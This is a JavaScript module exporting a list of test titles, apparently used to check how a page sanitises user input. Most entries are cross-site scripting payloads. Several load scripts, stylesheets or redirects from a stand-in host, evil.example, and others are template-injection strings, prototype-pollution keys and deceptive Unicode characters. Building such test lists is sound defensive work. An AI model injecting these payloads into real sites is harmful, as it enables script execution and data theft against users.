// Titles that would do something if a page took them for HTML, or that look like other titles.
const { fromCharCode: c } = String;
module.exports = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>click</a>", "<form action=javascript:alert(1)><input type=submit></form>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<style>*{background:url(//evil.example/x)}</style>", "<style>@import '//evil.example/x.css'</style>", "<img src=//evil.example/pixel>",
  "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus '", "`-alert(1)-`",
  "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
  "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>", "#{7*7}", "{%raw%}",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "<ScRiPt>alert(1)</sCrIpT>", "<<script>alert(1)//<</script>", "<script/src=//evil.example/x.js>", "<img/src='x'/onerror=alert(1)>", "<svg/onload=alert(1)//",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>", "<xmp><img src=x onerror=alert(1)></xmp>",
  "__proto__", "constructor", "toString", "null", "undefined", "NaN", "[object Object]",
  `admin${c(0x202e)}drowssap`, `pass${c(0x200b)}word`, `p${c(0x0430)}ssword`, `${c(0x2066)}isolate${c(0x2069)}`, `zero${c(0x200d)}width`, `${c(0xfeff)}bom`,
  `soft${c(0xad)}hyphen`, `hangul${c(0x3164)}filler`, "Z̷͕̈ȃ̶̙l̷͇͝g̷̛͜o̴̚͜", "ｄａｔａｂａｓｅ", `tag${String.fromCodePoint(0xe0061)}`, `rtl ${c(0x05d0)}${c(0x05d1)} end`, "🗝️ key", `word${c(0x2028)}joiner`,
];
